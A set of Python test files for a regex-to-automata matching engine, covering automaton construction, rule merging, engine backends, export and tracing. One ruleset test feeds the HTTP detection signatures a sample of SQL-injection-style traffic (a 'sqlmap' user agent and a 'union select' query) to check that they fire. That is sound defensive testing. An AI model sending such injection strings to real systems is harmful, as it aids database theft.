            single = client.match(payload, single_match=True)
    assert result.ok
    assert result.shards == 2
    oracle = _oracle(artifact.mfsas, payload)
    assert result.matches == oracle
    assert result.stats["match_count"] == len(oracle)

    expected_first = {}
    for rule, end in oracle:
        if rule not in expected_first or end < expected_first[rule]:
            expected_first[rule] = end
    assert single.matches == {(r, e) for r, e in expected_first.items()}
