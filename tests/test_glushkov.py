"""Tests for the Glushkov position-automaton construction."""

import re

import pytest
from hypothesis import given, settings

from repro.automata.glushkov import glushkov_construct, is_homogeneous
from repro.automata.optimize import OptimizeOptions, compile_re_to_fsa
from repro.automata.simulate import accepts, find_match_ends
from repro.frontend.ast import count_literals
from repro.frontend.parser import parse

from conftest import ere_patterns, input_strings


def build(pattern: str):
    return glushkov_construct(parse(pattern), pattern=pattern)


class TestStructure:
    def test_epsilon_free_by_construction(self):
        for pattern in ("a", "a|b", "(ab)*", "a{2,4}", "x(y|z)+w"):
            assert not build(pattern).has_epsilon()

    def test_position_count(self):
        """n positions + start state (before trimming removes nothing)."""
        fsa = build("a(b|c)d")
        assert fsa.num_states == 4 + 1

    def test_homogeneous(self):
        for pattern in ("a", "a|b", "(ab)*c", "a[xy]b{2}", "(a|b)(a|c)"):
            assert is_homogeneous(build(pattern))

    def test_thompson_output_generally_not_homogeneous(self):
        """Sanity for the checker itself: a label conflict is detected."""
        from repro.automata.fsa import Fsa
        from repro.labels import CharClass

        fsa = Fsa()
        s0, s1 = fsa.add_state(), fsa.add_state()
        fsa.add_transition(s0, s1, CharClass.single("a"))
        fsa.add_transition(s1, s1, CharClass.single("b"))
        fsa.finals = {s1}
        assert not is_homogeneous(fsa)

    def test_nullable_marks_start_final(self):
        assert build("a*").accepts_empty()
        assert not build("a+").accepts_empty()

    def test_finite_bounds_expanded_internally(self):
        fsa = build("a{2,3}")
        assert accepts(fsa, "aa") and accepts(fsa, "aaa")
        assert not accepts(fsa, "a") and not accepts(fsa, "aaaa")

    def test_unexpanded_bound_rejected_by_low_level_api(self):
        from repro.automata.glushkov import _Builder

        with pytest.raises(ValueError):
            _Builder().analyse(parse("a{2,3}"))


class TestLanguage:
    @pytest.mark.parametrize("pattern,inside,outside", [
        ("abc", ["abc"], ["ab", "abcd"]),
        ("a|bc", ["a", "bc"], ["b", "abc"]),
        ("(ab)*", ["", "ab", "abab"], ["a", "aba"]),
        ("a?b+", ["b", "ab", "abb"], ["a", ""]),
        ("(a|b)(c|d)", ["ac", "bd"], ["ab", "cd"]),
        ("a(b|)c", ["abc", "ac"], ["a"]),
    ])
    def test_membership(self, pattern, inside, outside):
        fsa = build(pattern)
        for s in inside:
            assert accepts(fsa, s), (pattern, s)
        for s in outside:
            assert not accepts(fsa, s), (pattern, s)

    def test_concat_through_nullable_middle(self):
        """follow() must jump over nullable parts: a(b?)c allows a->c."""
        fsa = build("ab?c")
        assert accepts(fsa, "ac") and accepts(fsa, "abc")


class TestPipelineIntegration:
    def test_optimize_option(self):
        options = OptimizeOptions(construction="glushkov")
        fsa = compile_re_to_fsa("a(b|c)+d", options)
        assert find_match_ends(fsa, "abccd") == {5}

    def test_unknown_construction(self):
        with pytest.raises(ValueError):
            compile_re_to_fsa("a", OptimizeOptions(construction="brzozowski"))

    def test_merge_works_on_glushkov_fsas(self):
        from repro.mfsa.activation import reference_match
        from repro.mfsa.merge import merge_fsas

        options = OptimizeOptions(construction="glushkov")
        fsas = [(i, compile_re_to_fsa(p, options)) for i, p in enumerate(["abc", "abd"])]
        mfsa = merge_fsas(fsas)
        assert reference_match(mfsa, "zabcabd") == {(0, 4), (1, 7)}


@given(ere_patterns(), input_strings())
@settings(max_examples=200, deadline=None)
def test_glushkov_agrees_with_re(pattern, text):
    fsa = build(pattern)
    oracle = re.compile(f"(?:{pattern})\\Z")
    assert accepts(fsa, text) == bool(oracle.match(text))


@given(ere_patterns(), input_strings())
@settings(max_examples=120, deadline=None)
def test_glushkov_equals_thompson_pipeline(pattern, text):
    glushkov = compile_re_to_fsa(pattern, OptimizeOptions(construction="glushkov"))
    thompson = compile_re_to_fsa(pattern, OptimizeOptions(construction="thompson"))
    assert find_match_ends(glushkov, text) == find_match_ends(thompson, text)


@given(ere_patterns())
@settings(max_examples=100, deadline=None)
def test_homogeneity_property(pattern):
    assert is_homogeneous(build(pattern))
