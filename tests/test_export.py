"""Tests for the raw-result CSV/JSON export."""

import csv
import json

from repro.reporting.experiments import ExperimentConfig
from repro.reporting.export import export_all, export_fig7


TINY = ExperimentConfig(
    datasets=("BRO",),
    scale=25,
    stream_size=256,
    merging_factors=(1, 2, 0),
    threads=(1, 2, 4),
)


def read_csv(path):
    with path.open() as handle:
        return list(csv.DictReader(handle))


class TestExport:
    def test_export_all_writes_manifest_and_files(self, tmp_path):
        written = export_all(TINY, tmp_path)
        names = {path.name for path in written}
        assert "manifest.json" in names
        assert "fig7_compression.csv" in names
        assert len(names) == 8
        manifest = json.loads((tmp_path / "manifest.json").read_text())
        assert manifest["config"]["scale"] == 25
        assert set(manifest["files"]) == names - {"manifest.json"}

    def test_fig7_rows(self, tmp_path):
        path = export_fig7(TINY, tmp_path)
        rows = read_csv(path)
        assert {row["merging_factor"] for row in rows} == {"2", "all"}
        for row in rows:
            assert 0.0 <= float(row["states_pct"]) <= 100.0

    def test_fig9_improvement_column(self, tmp_path):
        export_all(TINY, tmp_path)
        rows = read_csv(tmp_path / "fig9_throughput.csv")
        baseline = [r for r in rows if r["merging_factor"] == "1"]
        assert baseline and all(abs(float(r["improvement"]) - 1.0) < 1e-9 for r in baseline)

    def test_fig10_covers_thread_sweep(self, tmp_path):
        export_all(TINY, tmp_path)
        rows = read_csv(tmp_path / "fig10_scaling.csv")
        assert {row["threads"] for row in rows} == {"1", "2", "4"}

    def test_cli_export_flag(self, tmp_path, capsys):
        from repro.cli import report_main

        report_main(["fig1", "--scale", "30", "--stream-size", "256",
                     "--export", str(tmp_path / "out")])
        out = capsys.readouterr().out
        assert "raw-result files" in out
        assert (tmp_path / "out" / "manifest.json").exists()
