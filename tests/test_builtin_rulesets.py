"""Tests for the curated builtin rulesets and their loader."""

import pytest

from repro.automata.optimize import compile_re_to_fsa
from repro.datasets import list_builtin, load_builtin
from repro.engine.imfant import IMfantEngine
from repro.pipeline.compiler import CompileOptions, compile_ruleset

EXPECTED_NAMES = {
    "dotstar_rules",
    "http_signatures",
    "log_patterns",
    "protein_motifs",
    "range_rules",
    "tokens_exact",
}


class TestLoader:
    def test_all_suites_present(self):
        assert set(list_builtin()) == EXPECTED_NAMES

    def test_load_by_name(self):
        ruleset = load_builtin("http_signatures")
        assert ruleset.name == "http_signatures"
        assert len(ruleset) >= 20

    def test_unknown_name(self):
        with pytest.raises(KeyError, match="unknown builtin"):
            load_builtin("nope")

    def test_comments_and_blanks_stripped(self):
        for name in list_builtin():
            for pattern in load_builtin(name).patterns:
                assert pattern and not pattern.startswith("#")


class TestRuleQuality:
    @pytest.mark.parametrize("name", sorted(EXPECTED_NAMES))
    def test_every_pattern_compiles(self, name):
        for pattern in load_builtin(name).patterns:
            fsa = compile_re_to_fsa(pattern)
            assert fsa.num_states >= 2

    def test_http_suite_compiles_and_merges(self):
        ruleset = load_builtin("http_signatures")
        result = compile_ruleset(list(ruleset.patterns),
                                 CompileOptions(merging_factor=0, emit_anml=False))
        assert result.merge_report.state_compression > 10

    def test_http_suite_fires_on_sample_traffic(self):
        ruleset = load_builtin("http_signatures")
        result = compile_ruleset(list(ruleset.patterns),
                                 CompileOptions(merging_factor=0, emit_anml=False))
        traffic = (b"GET /admin/config.php HTTP/1.1\r\n"
                   b"User-Agent: sqlmap\r\nq=1 union  select x from users\r\n")
        matches = IMfantEngine(result.mfsas[0]).run(traffic).matches
        fired_rules = {rule for rule, _ in matches}
        assert len(fired_rules) >= 3

    def test_protein_suite_fires_on_motif(self):
        ruleset = load_builtin("protein_motifs")
        result = compile_ruleset(list(ruleset.patterns),
                                 CompileOptions(merging_factor=0, emit_anml=False))
        sequence = b"MKLVCSHCAAGIRGDKKKWSEQ"
        matches = IMfantEngine(result.mfsas[0]).run(sequence).matches
        assert matches

    def test_dotstar_suite_has_dotstars(self):
        assert all(".*" in p for p in load_builtin("dotstar_rules").patterns)

    def test_exact_suite_is_literal_heavy(self):
        from repro.frontend.analysis import required_literals
        from repro.frontend.parser import parse

        prefilterable = sum(
            1 for p in load_builtin("tokens_exact").patterns
            if required_literals(parse(p)) is not None
        )
        assert prefilterable == len(load_builtin("tokens_exact"))
