"""Unit tests for the MFSA formal model."""

import pytest

from repro.automata.optimize import compile_re_to_fsa
from repro.labels import CharClass
from repro.mfsa.model import Mfsa, from_single_fsa, validate_projections
from repro.mfsa.merge import merge_fsas


def tiny_mfsa() -> Mfsa:
    """Two rules sharing an 'a' arc: 0-a->1 {1,2}, 1-b->2 {1}, 1-c->3 {2}."""
    m = Mfsa(num_states=4)
    m.add_transition(0, 1, CharClass.single("a"), (1, 2))
    m.add_transition(1, 2, CharClass.single("b"), (1,))
    m.add_transition(1, 3, CharClass.single("c"), (2,))
    m.initials = {1: 0, 2: 0}
    m.finals = {1: {2}, 2: {3}}
    return m


class TestModel:
    def test_rule_ids_in_merge_order(self):
        assert tiny_mfsa().rule_ids == [1, 2]

    def test_counts(self):
        m = tiny_mfsa()
        assert m.num_rules == 2
        assert m.num_transitions == 3

    def test_slots_dense(self):
        assert tiny_mfsa().slot_of() == {1: 0, 2: 1}

    def test_initial_mask(self):
        masks = tiny_mfsa().initial_mask_per_state()
        assert masks[0] == 0b11
        assert masks[1] == 0

    def test_final_mask(self):
        masks = tiny_mfsa().final_mask_per_state()
        assert masks[2] == 0b01
        assert masks[3] == 0b10

    def test_belonging_masks(self):
        assert tiny_mfsa().belonging_masks() == [0b11, 0b01, 0b10]

    def test_alphabet_mask(self):
        assert tiny_mfsa().alphabet_mask() == CharClass.from_chars("abc").mask

    def test_empty_belonging_rejected(self):
        m = Mfsa(num_states=2)
        with pytest.raises(ValueError):
            m.add_transition(0, 1, CharClass.single("a"), ())


class TestProjection:
    def test_projection_languages(self):
        from repro.automata.simulate import accepts

        m = tiny_mfsa()
        p1, p2 = m.projection(1), m.projection(2)
        assert accepts(p1, "ab") and not accepts(p1, "ac")
        assert accepts(p2, "ac") and not accepts(p2, "ab")

    def test_projection_unknown_rule(self):
        with pytest.raises(KeyError):
            tiny_mfsa().projection(99)

    def test_validate_projections_after_merge(self):
        patterns = ["abc", "abd", "xbc"]
        fsas = [(i, compile_re_to_fsa(p)) for i, p in enumerate(patterns)]
        mfsa = merge_fsas(fsas)
        validate_projections(mfsa, dict(fsas))


class TestValidate:
    def test_valid(self):
        tiny_mfsa().validate()

    def test_missing_finals_entry(self):
        m = tiny_mfsa()
        del m.finals[2]
        with pytest.raises(ValueError):
            m.validate()

    def test_empty_final_set(self):
        m = tiny_mfsa()
        m.finals[1] = set()
        with pytest.raises(ValueError):
            m.validate()

    def test_unknown_rule_in_belonging(self):
        m = tiny_mfsa()
        m.add_transition(0, 1, CharClass.single("z"), (7,))
        with pytest.raises(ValueError):
            m.validate()

    def test_duplicate_arc_rejected(self):
        m = tiny_mfsa()
        m.add_transition(0, 1, CharClass.single("a"), (1,))
        with pytest.raises(ValueError):
            m.validate()

    def test_out_of_range_states(self):
        m = tiny_mfsa()
        m.initials[1] = 17
        with pytest.raises(ValueError):
            m.validate()


class TestFromSingleFsa:
    def test_wraps_fsa(self):
        fsa = compile_re_to_fsa("a(b|c)")
        m = from_single_fsa(5, fsa)
        assert m.rule_ids == [5]
        assert m.num_states == fsa.num_states
        assert all(t.bel == frozenset({5}) for t in m.transitions)
        assert m.patterns[5] == "a(b|c)"

    def test_rejects_epsilon(self):
        from repro.automata.thompson import thompson_construct
        from repro.frontend.parser import parse

        nfa = thompson_construct(parse("ab"))
        with pytest.raises(ValueError):
            from_single_fsa(0, nfa)
