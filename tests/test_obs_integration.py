"""Integration tests: the observability layer woven through the pipeline.

Covers the ISSUE-1 satellite requirements:

* cross-backend metric agreement — the python and numpy iMFAnt backends
  produce *identical* active-set / frontier / transitions histograms
  (the work-counter agreement invariant extended to distributions);
* multithread span integrity — every worker span nests under the pool's
  run span, no orphan or unclosed spans, even when a worker raises.
"""

from __future__ import annotations

import pytest

import repro.obs as obs
from repro.datasets import list_builtin, load_builtin
from repro.engine.hybrid import HybridEngine
from repro.engine.imfant import IMfantEngine
from repro.engine.infant import INfantEngine
from repro.engine.multithread import run_pool
from repro.automata.optimize import compile_re_to_fsa
from repro.pipeline.compiler import CompileOptions, compile_ruleset


def _stream_for(patterns, size=4096, seed=7):
    from repro.cli import _demo_stream

    return _demo_stream(list(patterns), size, seed=seed)


# ---------------------------------------------------------------------------
# Compiler
# ---------------------------------------------------------------------------


def test_compile_emits_stage_spans_matching_stage_times(small_ruleset):
    with obs.capture() as cap:
        result = compile_ruleset(small_ruleset)
    cap.tracer.validate()
    by_name = {s.name: s for s in cap.tracer.spans()}
    root = by_name["compile"]
    assert root.parent_id is None
    assert root.attributes["rules"] == len(small_ruleset)
    assert root.attributes["input_states"] == result.merge_report.input_states

    stage_to_attr = {
        "compile.frontend": "frontend",
        "compile.ast_to_fsa": "ast_to_fsa",
        "compile.single_opt": "single_opt",
        "compile.merging": "merging",
        "compile.backend": "backend",
    }
    stage_sum = 0.0
    for span_name, attr in stage_to_attr.items():
        span = by_name[span_name]
        assert span.parent_id == root.span_id
        reported = getattr(result.stage_times, attr)
        # span wraps the timed region: duration >= StageTimes entry
        assert span.duration >= reported - 1e-9
        stage_sum += span.duration
    # stage spans account for (nearly) the whole compile span
    assert stage_sum <= root.duration + 1e-9
    assert stage_sum >= 0.5 * root.duration


def test_compile_without_obs_unchanged(small_ruleset):
    obs.disable()
    result = compile_ruleset(small_ruleset)
    assert result.stage_times.total > 0
    assert result.mfsas


def test_merge_spans_report_walk_progress(small_ruleset):
    with obs.capture() as cap:
        compile_ruleset(small_ruleset, CompileOptions(merging_factor=0, emit_anml=False))
    groups = [s for s in cap.tracer.spans() if s.name == "merge.group"]
    per_fsa = [s for s in cap.tracer.spans() if s.name == "merge.fsa"]
    assert len(groups) == 1
    group = groups[0]
    assert group.attributes["rules"] == len(small_ruleset)
    assert group.attributes["seeds_tried"] >= 0
    assert "state_compression" in group.attributes
    # one merge.fsa per incoming FSA after the seed
    assert len(per_fsa) == len(small_ruleset) - 1
    for span in per_fsa:
        assert span.parent_id == group.span_id
        attrs = span.attributes
        assert attrs["walks_found"] == attrs["walks_kept"] + attrs["walks_discarded"]
        assert attrs["seeds_tried"] >= attrs["walks_found"]


def test_merge_min_walk_len_discards_are_visible(small_ruleset):
    with obs.capture() as cap:
        compile_ruleset(
            small_ruleset,
            CompileOptions(merging_factor=0, min_walk_len=3, emit_anml=False),
        )
    per_fsa = [s for s in cap.tracer.spans() if s.name == "merge.fsa"]
    assert sum(s.attributes["walks_discarded"] for s in per_fsa) > 0


# ---------------------------------------------------------------------------
# Engines
# ---------------------------------------------------------------------------


def test_imfant_run_span_attributes(small_ruleset):
    result = compile_ruleset(small_ruleset, CompileOptions(emit_anml=False))
    engine = IMfantEngine(result.mfsas[0])
    data = _stream_for(small_ruleset, 1024)
    with obs.capture() as cap:
        run = engine.run(data)
    (span,) = [s for s in cap.tracer.spans() if s.name == "imfant.run"]
    assert span.attributes["backend"] == "python"
    assert span.attributes["bytes"] == len(data)
    assert span.attributes["matches"] == run.stats.match_count
    assert span.attributes["rules"] == len(small_ruleset)


@pytest.mark.parametrize("ruleset_name", sorted(list_builtin()))
def test_cross_backend_histogram_agreement(ruleset_name):
    """Satellite: python and numpy backends sample identical distributions
    on every builtin ruleset."""
    patterns = list(load_builtin(ruleset_name).patterns)
    result = compile_ruleset(patterns, CompileOptions(merging_factor=0, emit_anml=False))
    data = _stream_for(patterns, 2048, seed=11)

    snapshots = {}
    for backend in ("python", "numpy"):
        engine = IMfantEngine(result.mfsas[0], backend=backend)
        with obs.capture(stride=16) as cap:
            engine.run(data)
        snapshots[backend] = {
            name: cap.registry.get(f"imfant_{name}").snapshot()
            for name in ("active_set_size", "frontier_width", "transitions_per_byte")
        }
        assert cap.registry.get("imfant_samples_total").value == len(data) // 16

    for name in ("active_set_size", "frontier_width", "transitions_per_byte"):
        py, np_ = snapshots["python"][name], snapshots["numpy"][name]
        assert py["counts"] == np_["counts"], (ruleset_name, name)
        assert py["sum"] == np_["sum"], (ruleset_name, name)
        assert py["count"] == np_["count"], (ruleset_name, name)
        assert py["min"] == np_["min"] and py["max"] == np_["max"], (ruleset_name, name)


def test_cross_backend_agreement_with_stride_one(small_ruleset):
    """Stride 1 samples every byte — the strictest agreement check."""
    result = compile_ruleset(small_ruleset, CompileOptions(emit_anml=False))
    data = _stream_for(small_ruleset, 512)
    sums = {}
    for backend in ("python", "numpy"):
        with obs.capture(stride=1) as cap:
            IMfantEngine(result.mfsas[0], backend=backend).run(data)
        hist = cap.registry.get("imfant_active_set_size")
        sums[backend] = (hist.sum, hist.count, tuple(hist.counts))
        # stride 1: histogram sum equals the engine's own active-pair counter
    assert sums["python"] == sums["numpy"]


def test_stride_one_histogram_matches_work_counters(small_ruleset):
    result = compile_ruleset(small_ruleset, CompileOptions(emit_anml=False))
    data = _stream_for(small_ruleset, 512)
    engine = IMfantEngine(result.mfsas[0])
    with obs.capture(stride=1) as cap:
        run = engine.run(data)
    assert cap.registry.get("imfant_active_set_size").sum == run.stats.active_pair_total
    assert cap.registry.get("imfant_transitions_per_byte").sum == run.stats.transitions_examined


def test_infant_cross_backend_histogram_agreement():
    fsa = compile_re_to_fsa("a[bc]+d")
    data = b"xabcbcd" * 100
    snaps = {}
    for backend in ("python", "numpy"):
        with obs.capture(stride=8) as cap:
            INfantEngine(fsa, backend=backend).run(data)
        snaps[backend] = cap.registry.get("infant_active_set_size").snapshot()
    assert snaps["python"]["counts"] == snaps["numpy"]["counts"]
    assert snaps["python"]["sum"] == snaps["numpy"]["sum"]


def test_engines_emit_no_metrics_when_disabled(small_ruleset):
    obs.disable()
    result = compile_ruleset(small_ruleset, CompileOptions(emit_anml=False))
    run = IMfantEngine(result.mfsas[0]).run(_stream_for(small_ruleset, 256))
    assert run.stats.chars_processed == 256
    assert obs.get_registry() is None


def test_hybrid_run_spans():
    patterns = ["abc", "x[0-9]{40,60}y", "q(r|s)t"]
    engine = HybridEngine(patterns)
    with obs.capture() as cap:
        matches, report = engine.run(_stream_for(patterns, 512))
    names = [s.name for s in cap.tracer.spans()]
    assert "hybrid.run" in names
    assert "hybrid.merged" in names
    assert "hybrid.counting" in names
    (root,) = [s for s in cap.tracer.spans() if s.name == "hybrid.run"]
    assert root.attributes["counting_rules"] == 1
    assert root.attributes["merged_rules"] == 2
    assert root.attributes["matches"] == len(matches)
    for name in ("hybrid.merged", "hybrid.counting"):
        (child,) = [s for s in cap.tracer.spans() if s.name == name]
        assert child.parent_id == root.span_id
    cap.tracer.validate()


# ---------------------------------------------------------------------------
# Multithread span integrity (satellite)
# ---------------------------------------------------------------------------


def _pool_engines(small_ruleset):
    result = compile_ruleset(small_ruleset, CompileOptions(merging_factor=2, emit_anml=False))
    return [IMfantEngine(m) for m in result.mfsas]


def test_run_pool_worker_spans_nest_under_pool_span(small_ruleset):
    engines = _pool_engines(small_ruleset)
    data = _stream_for(small_ruleset, 1024)
    with obs.capture() as cap:
        run_pool([lambda e=e: e.run(data) for e in engines], num_threads=3)
    cap.tracer.validate()

    (pool_span,) = [s for s in cap.tracer.spans() if s.name == "run_pool"]
    workers = [s for s in cap.tracer.spans() if s.name == "run_pool.worker"]
    assert len(workers) == len(engines)
    assert pool_span.attributes["automata"] == len(engines)
    for worker in workers:
        assert worker.parent_id == pool_span.span_id
        assert worker.closed
    # engine runs nest under their worker span (same thread, stack-nested)
    runs = [s for s in cap.tracer.spans() if s.name == "imfant.run"]
    worker_ids = {w.span_id for w in workers}
    assert len(runs) == len(engines)
    assert all(r.parent_id in worker_ids for r in runs)
    # no span escaped the forest
    known = {s.span_id for s in cap.tracer.spans()}
    for span in cap.tracer.spans():
        assert span.parent_id is None or span.parent_id in known


def test_run_pool_span_integrity_when_worker_raises(small_ruleset):
    """Satellite: a raising worker leaves no orphan or unclosed spans."""
    engines = _pool_engines(small_ruleset)
    data = _stream_for(small_ruleset, 512)

    def boom():
        raise RuntimeError("worker exploded")

    runners = [lambda e=e: e.run(data) for e in engines] + [boom]
    with obs.capture() as cap:
        with pytest.raises(RuntimeError, match="worker exploded"):
            run_pool(runners, num_threads=2)

    cap.tracer.validate()  # nothing unclosed, everything nested
    (pool_span,) = [s for s in cap.tracer.spans() if s.name == "run_pool"]
    workers = [s for s in cap.tracer.spans() if s.name == "run_pool.worker"]
    assert pool_span.status == "error"
    assert pool_span.closed
    assert all(w.parent_id == pool_span.span_id for w in workers)
    failed = [w for w in workers if w.status == "error"]
    assert len(failed) == 1
    assert "worker exploded" in failed[0].attributes["error"]


def test_run_pool_without_obs_still_works(small_ruleset):
    obs.disable()
    engines = _pool_engines(small_ruleset)
    data = _stream_for(small_ruleset, 512)
    matches, stats = run_pool([lambda e=e: e.run(data) for e in engines], 2)
    assert stats.chars_processed == len(data) * len(engines)


# ---------------------------------------------------------------------------
# CLI
# ---------------------------------------------------------------------------


def test_cli_obs_subcommand_writes_artifacts(tmp_path, capsys):
    from repro.cli import obs_main

    trace = tmp_path / "trace.json"
    spans = tmp_path / "spans.jsonl"
    prom = tmp_path / "metrics.prom"
    rc = obs_main([
        "--builtin", "tokens_exact", "--stream-size", "2048", "--stride", "16",
        "--trace-out", str(trace), "--spans-out", str(spans),
        "--metrics-out", str(prom),
    ])
    assert rc == 0
    out = capsys.readouterr().out
    assert "span tree" in out
    assert "imfant_active_set_size" in out

    import json

    doc = json.loads(trace.read_text())
    names = {e["name"] for e in doc["traceEvents"]}
    assert {"compile", "run_pool", "imfant.run"} <= names
    assert spans.read_text().strip()
    assert "imfant_active_set_size_bucket" in prom.read_text()
    # capture is scoped: globals restored
    assert obs.get_tracer() is None


def test_cli_umbrella_dispatch(tmp_path, capsys):
    from repro.cli import main

    assert main([]) == 2
    assert main(["--help"]) == 0
    assert main(["nope"]) == 2
    rules = tmp_path / "r.rules"
    rules.write_text("abc\nabd\n")
    assert main(["compile", str(rules), "-o", str(tmp_path / "out")]) == 0


def test_cli_compile_trace_and_metrics_flags(tmp_path, capsys):
    from repro.cli import compile_main

    rules = tmp_path / "r.rules"
    rules.write_text("abc\nabd\n")
    trace = tmp_path / "trace.json"
    prom = tmp_path / "m.prom"
    rc = compile_main([
        str(rules), "-o", str(tmp_path / "out"),
        "--trace-out", str(trace), "--metrics-out", str(prom),
    ])
    assert rc == 0
    import json

    doc = json.loads(trace.read_text())
    assert any(e["name"] == "compile" for e in doc["traceEvents"])
    assert prom.exists()
    assert obs.get_tracer() is None


def test_cli_match_trace_flag(tmp_path):
    from repro.cli import match_main

    rules = tmp_path / "r.rules"
    rules.write_text("abc\nabd\n")
    stream = tmp_path / "s.bin"
    stream.write_bytes(b"zabcz" * 200)
    trace = tmp_path / "trace.json"
    prom = tmp_path / "m.prom"
    rc = match_main([
        str(stream), "--ruleset", str(rules),
        "--trace-out", str(trace), "--metrics-out", str(prom),
    ])
    assert rc == 0
    import json

    names = {e["name"] for e in json.loads(trace.read_text())["traceEvents"]}
    assert {"compile", "run_pool", "run_pool.worker", "imfant.run"} <= names
    assert "imfant_active_set_size" in prom.read_text()
