"""Unit tests for the POSIX ERE lexer."""

import pytest

from repro.frontend.errors import RegexSyntaxError
from repro.frontend.lexer import Token, TokenKind, tokenize
from repro.labels import CharClass


def kinds(pattern: str) -> list[TokenKind]:
    return [t.kind for t in tokenize(pattern)]


class TestBasicTokens:
    def test_plain_characters(self):
        tokens = tokenize("ab")
        assert [t.kind for t in tokens] == [TokenKind.CHAR, TokenKind.CHAR, TokenKind.END]
        assert [t.value for t in tokens[:2]] == [ord("a"), ord("b")]

    def test_metacharacters(self):
        assert kinds("(a|b)*+?") == [
            TokenKind.LPAREN, TokenKind.CHAR, TokenKind.ALTERNATE, TokenKind.CHAR,
            TokenKind.RPAREN, TokenKind.STAR, TokenKind.PLUS, TokenKind.QUESTION,
            TokenKind.END,
        ]

    def test_positions_recorded(self):
        tokens = tokenize("a|b")
        assert [t.position for t in tokens] == [0, 1, 2, 3]

    def test_dot_is_any_char_class(self):
        token = tokenize(".")[0]
        assert token.kind is TokenKind.CHARCLASS
        assert token.value == CharClass.any_char()

    def test_empty_pattern(self):
        assert kinds("") == [TokenKind.END]

    def test_anchors_rejected(self):
        with pytest.raises(RegexSyntaxError):
            tokenize("^a")
        with pytest.raises(RegexSyntaxError):
            tokenize("a$")


class TestEscapes:
    def test_escaped_metacharacter(self):
        token = tokenize("\\*")[0]
        assert token.kind is TokenKind.CHAR
        assert token.value == ord("*")

    def test_control_escapes(self):
        assert tokenize("\\n")[0].value == 0x0A
        assert tokenize("\\t")[0].value == 0x09

    def test_hex_escape(self):
        assert tokenize("\\x41")[0].value == 0x41

    def test_hex_escape_requires_two_digits(self):
        with pytest.raises(RegexSyntaxError):
            tokenize("\\x4")

    def test_shorthand_classes(self):
        token = tokenize("\\d")[0]
        assert token.kind is TokenKind.CHARCLASS
        assert token.value == CharClass.posix("digit")
        assert tokenize("\\w")[0].value.contains("_")
        assert not tokenize("\\D")[0].value.contains("5")

    def test_trailing_backslash(self):
        with pytest.raises(RegexSyntaxError):
            tokenize("a\\")

    def test_backreferences_rejected(self):
        """Non-regular operator, explicitly out of scope (paper §VIII)."""
        with pytest.raises(RegexSyntaxError, match="backreference"):
            tokenize("(a)\\1")

    def test_escaped_zero_is_nul(self):
        assert tokenize("\\0")[0].value == 0

    def test_digit_inside_brackets_is_literal(self):
        """POSIX: inside a bracket expression \\1 is the character 1."""
        assert "1" in tokenize("[\\1]")[0].value


class TestBounds:
    def test_exact(self):
        assert tokenize("{3}")[0].value == (3, 3)

    def test_open_ended(self):
        assert tokenize("{2,}")[0].value == (2, None)

    def test_range(self):
        assert tokenize("{2,5}")[0].value == (2, 5)

    def test_invalid_bounds(self):
        for bad in ("{a}", "{1,a}", "{5,2}", "{"):
            with pytest.raises(RegexSyntaxError):
                tokenize(bad)

    def test_unmatched_close_brace(self):
        with pytest.raises(RegexSyntaxError):
            tokenize("}")


class TestBracketExpressions:
    def test_simple_members(self):
        assert tokenize("[abc]")[0].value == CharClass.from_chars("abc")

    def test_range(self):
        assert tokenize("[a-f]")[0].value == CharClass.from_range("a", "f")

    def test_mixed(self):
        assert tokenize("[a-c09]")[0].value == CharClass.from_chars("abc09")

    def test_negation(self):
        cc = tokenize("[^ab]")[0].value
        assert "c" in cc and "a" not in cc

    def test_literal_bracket_first(self):
        """']' right after '[' (or '[^') is a literal member per POSIX."""
        assert tokenize("[]a]")[0].value == CharClass.from_chars("]a")
        assert "]" not in tokenize("[^]a]")[0].value

    def test_trailing_dash_literal(self):
        assert "-" in tokenize("[a-]")[0].value

    def test_posix_class_inside(self):
        cc = tokenize("[[:digit:]a]")[0].value
        assert "5" in cc and "a" in cc

    def test_unknown_posix_class(self):
        with pytest.raises(RegexSyntaxError):
            tokenize("[[:nope:]]")

    def test_escape_inside(self):
        assert "]" in tokenize("[\\]]")[0].value
        assert "\n" in tokenize("[\\n]")[0].value
        assert "7" in tokenize("[\\d]")[0].value

    def test_reversed_range_rejected(self):
        with pytest.raises(RegexSyntaxError):
            tokenize("[z-a]")

    def test_unterminated(self):
        with pytest.raises(RegexSyntaxError):
            tokenize("[abc")

    def test_unmatched_close(self):
        with pytest.raises(RegexSyntaxError):
            tokenize("]")


class TestDiagnostics:
    def test_error_carries_position_and_pattern(self):
        with pytest.raises(RegexSyntaxError) as info:
            tokenize("ab^")
        assert info.value.position == 2
        assert info.value.pattern == "ab^"
        assert "^" in str(info.value)

    def test_token_repr(self):
        token = Token(TokenKind.CHAR, 0, ord("a"))
        assert "CHAR" in repr(token)
