"""Unit tests for the reference NFA simulator."""

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import accepts, find_match_ends, simulate_stream
from repro.automata.thompson import thompson_construct
from repro.frontend.parser import parse


class TestAccepts:
    def test_bytes_and_str_inputs(self):
        fsa = compile_re_to_fsa("ab")
        assert accepts(fsa, "ab")
        assert accepts(fsa, b"ab")

    def test_handles_epsilon_nfa(self):
        nfa = thompson_construct(parse("a|b"))
        assert accepts(nfa, "a") and accepts(nfa, "b")
        assert not accepts(nfa, "ab")

    def test_dead_end(self):
        fsa = compile_re_to_fsa("abc")
        assert not accepts(fsa, "abx")


class TestFindMatchEnds:
    def test_basic_offsets(self):
        fsa = compile_re_to_fsa("ab")
        assert find_match_ends(fsa, "abxab") == {2, 5}

    def test_overlapping_matches(self):
        fsa = compile_re_to_fsa("aa")
        assert find_match_ends(fsa, "aaa") == {2, 3}

    def test_empty_language_matches_everywhere(self):
        fsa = compile_re_to_fsa("a*")
        assert find_match_ends(fsa, "bb") == {0, 1, 2}

    def test_no_matches(self):
        fsa = compile_re_to_fsa("xyz")
        assert find_match_ends(fsa, "aaaa") == set()

    def test_match_on_epsilon_nfa(self):
        nfa = thompson_construct(parse("ab"))
        assert find_match_ends(nfa, "zab") == {3}

    def test_offsets_are_one_based_byte_counts(self):
        fsa = compile_re_to_fsa("a")
        assert find_match_ends(fsa, "a") == {1}


class TestSimulateStream:
    def test_multiple_rules(self):
        rules = [(7, compile_re_to_fsa("ab")), (9, compile_re_to_fsa("b"))]
        assert simulate_stream(rules, "ab") == {(7, 2), (9, 2)}

    def test_empty_rule_list(self):
        assert simulate_stream([], "abc") == set()
