"""Unit tests for repro.labels (CharClass bitmask character sets)."""

import pytest
from hypothesis import given, strategies as st

from repro.labels import ALPHABET_SIZE, FULL_MASK, CharClass, single


